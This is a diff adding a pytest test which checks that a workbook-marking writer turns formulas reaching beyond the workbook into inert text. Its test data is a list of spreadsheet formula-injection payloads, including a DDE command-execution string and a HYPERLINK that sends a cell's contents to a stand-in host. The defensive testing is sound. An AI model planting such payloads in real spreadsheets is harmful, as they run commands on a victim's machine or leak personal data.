@@ -171,3 +171,20 @@ def test_what_openpyxl_cannot_open_is_said_so():
         writer.marked(broken, "Sheet1", 1, FINDINGS, TOTALS)
     with pytest.raises(writer.CannotBeMarked):
         writer.marked(files.xlsx([HEADER]), "没有这张表", 1, FINDINGS, TOTALS)
+
+
+def test_a_formula_that_reaches_beyond_the_workbook_comes_back_as_its_text():
+    """Whoever checks the list opens the marked workbook in good faith: what the school put into it starts nothing and asks nobody there."""
+    outward = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&B2,"张三")', '=WEBSERVICE("http://x.example")', "='[其他.xlsx]表'!A1", '=_xlfn.IMAGE("x")', "=DDE(1,2)"]
+    book = openpyxl.Workbook()
+    for title in ("名册", "说明"):
+        page = book.create_sheet(title)
+        for row, formula in enumerate([*outward, "=MID(B2,7,8)", "=SUM(A1:A3)+1"], 2):
+            page.cell(row, 1, formula)
+    out = io.BytesIO()
+    book.save(out)
+    marked = opened(writer.marked(out.getvalue(), "名册", 1, FINDINGS, TOTALS))
+    for title in ("名册", "说明"):
+        cells = [marked[title].cell(row, 1) for row in range(2, 10)]
+        assert [cell.value for cell in cells[:6]] == outward and {cell.data_type for cell in cells[:6]} == {"s"}
+        assert [(cell.value, cell.data_type) for cell in cells[6:]] == [("=MID(B2,7,8)", "f"), ("=SUM(A1:A3)+1", "f")]
